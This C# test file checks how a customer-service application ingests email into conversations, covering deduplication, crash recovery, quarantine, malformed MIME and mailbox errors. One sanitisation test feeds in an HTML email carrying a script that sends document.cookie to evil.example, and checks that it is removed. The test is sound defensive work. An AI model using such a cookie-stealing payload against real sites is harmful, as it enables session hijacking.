using System.Net;
using System.Text;
using Comptoir.Features.Channels.Email;
using Comptoir.Features.Conversations;
using Comptoir.Tests.Infrastructure;
using Microsoft.Data.Sqlite;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using MimeKit;
using Npgsql;

namespace Comptoir.Tests.Features.Channels.Email;

public sealed class EmailReadingTests(Hosts hosts)
{
    [Theory, ClassData(typeof(BothDatabases))]
    public async Task A_message_to_the_service_mailbox_becomes_a_conversation_and_the_customer_is_recognised_by_address_next_time(Db db)
    {
        using var desk = await EmailDesk.OpenAsync(await hosts.GetAsync(db));
        var customer = MailServer.NewAddress("marie.dupont", "example.test");
        var first = desk.Letter(customer, "Commande 4521 incomplète", "Bonjour, il manque le lait dans ma commande livrée hier.");
        var second = desk.Letter(customer.ToUpperInvariant(), "Autre question", "Bonjour, pouvez-vous me dire si le drive est ouvert dimanche ?");

        await desk.ReceiveAsync(first);
        await desk.PollAsync();
        await desk.ReceiveAsync(second);
        await desk.PollAsync();

        var opened = await desk.ConversationOfAsync(first.MessageId);
        var again = await desk.ConversationOfAsync(second.MessageId);
        var message = Assert.Single(opened.Messages, m => m.Direction == MessageDirection.Inbound);
        Assert.Equal(Channel.Email, opened.Channel);
        Assert.Equal(desk.MailboxId, opened.MailboxId);
        Assert.Equal("Commande 4521 incomplète", opened.Subject);
        Assert.Equal($"<{first.MessageId}>", message.ExternalId);
        Assert.Equal(customer, message.From);
        Assert.Contains("il manque le lait", message.Body, StringComparison.Ordinal);
        Assert.Equal("Marie Dupont", opened.Customer!.DisplayName);
        Assert.False(opened.CustomerRecognised);
        Assert.NotEqual(opened.Id, again.Id);
        Assert.True(again.CustomerRecognised);
        Assert.Equal(opened.CustomerId, again.CustomerId);
        Assert.All(await desk.Mail.SeenAsync(desk.Address), Assert.True);
    }

    [Theory, ClassData(typeof(BothDatabases))]
    public async Task A_message_is_flagged_seen_only_once_stored_and_a_crash_in_between_stores_it_once(Db db)
    {
        await using var database = await TestDatabase.CreateAsync(db);
        await using var host = new ComptoirHost(database);
        using var desk = await EmailDesk.OpenAsync(host);
        var letter = desk.Letter(MailServer.NewAddress("paul", "example.test"), "Remboursement", "Bonjour, j'attends mon remboursement.");
        await desk.ReceiveAsync(letter);

        // The database refuses writes for a while: the reading must give up without flagging the message.
        await using (var writeLock = await LockMessagesAsync(database))
        {
            using var patience = new CancellationTokenSource(TimeSpan.FromSeconds(3));
            await Assert.ThrowsAnyAsync<OperationCanceledException>(() =>
                host.Services.GetRequiredService<PollMailboxes>().RunOnceAsync(patience.Token));

            Assert.False(Assert.Single(await desk.Mail.SeenAsync(desk.Address)));
        }

        // The intake stores it once the lock goes (the reader is gone: a crash between storing and flagging);
        // the next reading finds it unread again, recognises it and flags it.
        await desk.PollAsync();

        Assert.True(Assert.Single(await desk.Mail.SeenAsync(desk.Address)));
        Assert.Equal(1, await host.QueryAsync(c => c.Messages.CountAsync(m => m.ExternalId == "<" + letter.MessageId + ">")));
    }

    [Theory, ClassData(typeof(BothDatabases))]
    public async Task The_same_message_delivered_twice_is_stored_once(Db db)
    {
        using var desk = await EmailDesk.OpenAsync(await hosts.GetAsync(db));
        var letter = desk.Letter(MailServer.NewAddress("lucie", "example.test"), "Carte de fidélité", "Bonjour, ma carte ne marche plus.");

        await desk.ReceiveAsync(letter);
        await desk.ReceiveAsync(letter);
        await desk.PollAsync();
        await desk.ReceiveAsync(letter);
        await desk.PollAsync();

        var stored = await desk.Host.QueryAsync(c => c.Messages.Where(m => m.ExternalId == "<" + letter.MessageId + ">").ToListAsync());
        Assert.Single(stored);
        Assert.Equal(1, await desk.Host.QueryAsync(c => c.Messages.CountAsync(m => m.ConversationId == stored[0].ConversationId && m.IsAutomatic)));
        var seen = await desk.Mail.SeenAsync(desk.Address);
        Assert.Equal(3, seen.Count);
        Assert.All(seen, Assert.True);
    }

    [Theory, ClassData(typeof(BothDatabases))]
    public async Task Unreadable_messages_are_kept_raw_flagged_seen_and_shown_in_quarantine(Db db)
    {
        using var desk = await EmailDesk.OpenAsync(await hosts.GetAsync(db));
        var garbage = Encoding.Latin1.GetBytes($"Ceci n'est pas un e-mail {Guid.NewGuid():N}\r\n\r\n\u00e9\u00e9\u00e9\r\n");
        var anonymous = Encoding.ASCII.GetBytes($"Subject: sans expediteur\r\nMessage-ID: <{Guid.NewGuid():N}@example.test>\r\n\r\nQui suis-je ?\r\n");

        await desk.ReceiveAsync(garbage);
        await desk.ReceiveAsync(anonymous);
        await desk.PollAsync();

        var kept = await desk.Host.QueryAsync(c => c.RawInbound.Where(r => r.Source == desk.Address).OrderBy(r => r.Id).ToListAsync());
        Assert.Equal(2, kept.Count);
        Assert.All(kept, r => Assert.Equal(Channel.Email, r.Channel));
        Assert.All(kept, r => Assert.Equal(RawInboundStatus.Flagged, r.Status));
        Assert.Equal(InboundEmailParser.UnreadableMime, kept[0].Reason);
        Assert.Equal(InboundEmailParser.DerivedId(garbage), kept[0].ExternalId);
        Assert.Equal(InboundEmailParser.NoSender, kept[1].Reason);
        Assert.All(await desk.Mail.SeenAsync(desk.Address), Assert.True);

        var page = WebUtility.HtmlDecode(await desk.Admin.GetStringAsync("/app/admin/quarantaine"));
        Assert.Contains(desk.Address, page, StringComparison.Ordinal);
        Assert.Contains(InboundEmailParser.UnreadableMime, page, StringComparison.Ordinal);
        var download = await desk.Admin.GetAsync($"/app/admin/quarantaine?handler=download&id={kept[0].Id}");
        Assert.Equal(garbage.Length, (await download.Content.ReadAsByteArrayAsync()).Length);
        Assert.Equal("attachment", download.Content.Headers.ContentDisposition?.DispositionType);

        var dismissed = await desk.Admin.PostAsync($"/app/admin/quarantaine?handler=dismiss&id={kept[0].Id}", new FormUrlEncodedContent(new Dictionary<string, string>
        {
            ["__RequestVerificationToken"] = StaffSession.AntiforgeryToken(page),
        }));
        Assert.Equal(HttpStatusCode.Redirect, dismissed.StatusCode);
        Assert.Equal(RawInboundStatus.Dismissed, await desk.Host.QueryAsync(c => c.RawInbound.Where(r => r.Id == kept[0].Id).Select(r => r.Status).SingleAsync()));
        var after = await desk.Admin.GetStringAsync("/app/admin/quarantaine");
        Assert.DoesNotContain(WebUtility.HtmlEncode(kept[0].ExternalId!), after, StringComparison.Ordinal);
        Assert.Contains(WebUtility.HtmlEncode(kept[1].ExternalId!), after, StringComparison.Ordinal);
        Assert.Equal(garbage, await desk.Host.QueryAsync(c => c.RawInbound.Where(r => r.Id == kept[0].Id).Select(r => r.Payload).SingleAsync()));
    }

    [Theory, ClassData(typeof(BothDatabases))]
    public async Task Malformed_mail_keeps_the_customers_text_with_the_original_attached_and_the_advisor_is_told(Db db)
    {
        using var desk = await EmailDesk.OpenAsync(await hosts.GetAsync(db));
        string Mail(string id, string headers, string body) =>
            $"From: Marie Dupont <{MailServer.NewAddress("marie", "example.test")}>\r\nTo: {desk.Address}\r\nSubject: Ma commande\r\nMessage-ID: <{id}>\r\nMIME-Version: 1.0\r\n{headers}\r\n\r\n{body}\r\n";
        var noBoundary = $"{Guid.NewGuid():N}@example.test";
        var preamble = $"{Guid.NewGuid():N}@example.test";
        var noCharset = $"{Guid.NewGuid():N}@example.test";
        var nul = $"{Guid.NewGuid():N}@example.test";

        await desk.ReceiveAsync(Encoding.UTF8.GetBytes(Mail(noBoundary, "Content-Type: multipart/mixed", "J'attends toujours le remboursement de la commande 4521.")));
        await desk.ReceiveAsync(Encoding.UTF8.GetBytes(Mail(preamble, "Content-Type: multipart/mixed; boundary=\"b1\"", "Le colis est arrivé ouvert.\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nVoici la photo.\r\n--b1--")));
        await desk.ReceiveAsync(Encoding.UTF8.GetBytes(Mail(noCharset, "Content-Type: text/plain; charset=us-ascii\r\nContent-Transfer-Encoding: 8bit", "J'ai été débité deux fois.")));
        await desk.ReceiveAsync(Encoding.UTF8.GetBytes(Mail(nul, "Content-Type: text/plain; charset=utf-8", "Bonjour").Replace("Subject: Ma commande", "Subject: =?utf-8?q?Ma=00_commande?=", StringComparison.Ordinal)));
        await desk.PollAsync();

        var lostBoundary = await desk.ConversationOfAsync(noBoundary);
        var lostPreamble = await desk.ConversationOfAsync(preamble);
        var utf8 = (await desk.ConversationOfAsync(noCharset)).Messages.Single(m => m.Direction == MessageDirection.Inbound);
        var withNul = (await desk.ConversationOfAsync(nul)).Messages.Single(m => m.Direction == MessageDirection.Inbound);
        foreach (var (conversation, words) in new[] { (lostBoundary, "J'attends toujours le remboursement de la commande 4521."), (lostPreamble, "Le colis est arrivé ouvert.") })
        {
            var message = conversation.Messages.Single(m => m.Direction == MessageDirection.Inbound);
            Assert.True(message.Malformed);
            Assert.Contains(words, message.Body, StringComparison.Ordinal);
            var original = Assert.Single(message.Attachments, a => a.FileName == InboundEmailParser.OriginalFileName);
            Assert.Equal("message/rfc822", original.ContentType);
            Assert.Contains(words, Encoding.UTF8.GetString(original.Content), StringComparison.Ordinal);
            var page = WebUtility.HtmlDecode(await desk.Admin.GetStringAsync($"/app/conversations/{conversation.Id}"));
            Assert.Contains("Message mal formé", page, StringComparison.Ordinal);
            Assert.Contains(InboundEmailParser.OriginalFileName, page, StringComparison.Ordinal);
        }

        Assert.Contains("Voici la photo.", lostPreamble.Messages.Single(m => m.Direction == MessageDirection.Inbound).Body, StringComparison.Ordinal);
        Assert.Equal("J'ai été débité deux fois.", utf8.Body.Trim());
        Assert.False(utf8.Malformed);
        Assert.Equal("Ma commande", withNul.Subject);
        Assert.All(await desk.Mail.SeenAsync(desk.Address), Assert.True);
    }

    [Theory, ClassData(typeof(BothDatabases))]
    public async Task Html_with_a_script_is_sanitised_and_read_as_text(Db db)
    {
        using var desk = await EmailDesk.OpenAsync(await hosts.GetAsync(db));
        var letter = desk.Letter(MailServer.NewAddress("html", "example.test"), "Photo du ticket", "");
        letter.Body = new TextPart("html")
        {
            Text = "<p onclick=\"steal()\">Bonjour, voici mon <b>ticket</b>.</p><script>document.location='https://evil.example/'+document.cookie</script><img src=\"https://evil.example/pixel.gif\">",
        };

        await desk.ReceiveAsync(letter);
        await desk.PollAsync();

        var message = Assert.Single((await desk.ConversationOfAsync(letter.MessageId)).Messages, m => m.Direction == MessageDirection.Inbound);
        Assert.Equal("Bonjour, voici mon ticket.", message.Body);
        Assert.Contains("<b>ticket</b>", message.BodyHtml, StringComparison.Ordinal);
        Assert.DoesNotContain("script", message.BodyHtml, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("onclick", message.BodyHtml, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("evil.example", message.BodyHtml, StringComparison.Ordinal);
    }

    [Theory, ClassData(typeof(BothDatabases))]
    public async Task A_mailbox_that_cannot_be_read_records_why_and_the_others_are_still_read(Db db)
    {
        var host = await hosts.GetAsync(db);
        using var broken = await EmailDesk.OpenAsync(host, imapPassword: "not-the-password");
        using var working = await EmailDesk.OpenAsync(host);
        var letter = working.Letter(MailServer.NewAddress("ines", "example.test"), "Livraison", "Bonjour, le livreur n'est pas passé.");
        await working.ReceiveAsync(letter);

        await working.PollAsync();

        var status = await host.QueryAsync(c => c.Mailboxes.Where(m => m.Id == broken.MailboxId).Select(m => new { m.LastPolledAt, m.LastError }).SingleAsync());
        await broken.Admin.PostAsync($"/api/mailboxes/{broken.MailboxId}/disable", null);
        Assert.NotNull(status.LastPolledAt);
        Assert.Contains("refused the user name or password", status.LastError, StringComparison.Ordinal);
        Assert.NotNull(await working.ConversationOfAsync(letter.MessageId));
        Assert.Null(await host.QueryAsync(c => c.Mailboxes.Where(m => m.Id == working.MailboxId).Select(m => m.LastError).SingleAsync()));
        var list = WebUtility.HtmlDecode(await working.Admin.GetStringAsync("/app/admin/boites-mail"));
        Assert.Contains("refused the user name or password", list, StringComparison.Ordinal);
    }

    /// <summary>Holds the database's write lock on messages until disposed, as a stalled database would.</summary>
    private static async Task<IAsyncDisposable> LockMessagesAsync(TestDatabase database)
    {
        if (database.Db == Db.Sqlite)
        {
            var sqlite = new SqliteConnection(database.ConnectionString);
            await sqlite.OpenAsync();
            await using (var begin = new SqliteCommand("BEGIN IMMEDIATE", sqlite))
            {
                await begin.ExecuteNonQueryAsync();
            }

            return new Lock(sqlite);
        }

        var postgres = new NpgsqlConnection(database.ConnectionString);
        await postgres.OpenAsync();
        await using (var begin = new NpgsqlCommand("BEGIN; LOCK TABLE \"Messages\" IN EXCLUSIVE MODE", postgres))
        {
            await begin.ExecuteNonQueryAsync();
        }

        return new Lock(postgres);
    }

    private sealed class Lock(System.Data.Common.DbConnection connection) : IAsyncDisposable
    {
        public async ValueTask DisposeAsync()
        {
            await using (var rollback = connection.CreateCommand())
            {
                rollback.CommandText = "ROLLBACK";
                await rollback.ExecuteNonQueryAsync();
            }

            await connection.DisposeAsync();
        }
    }
}
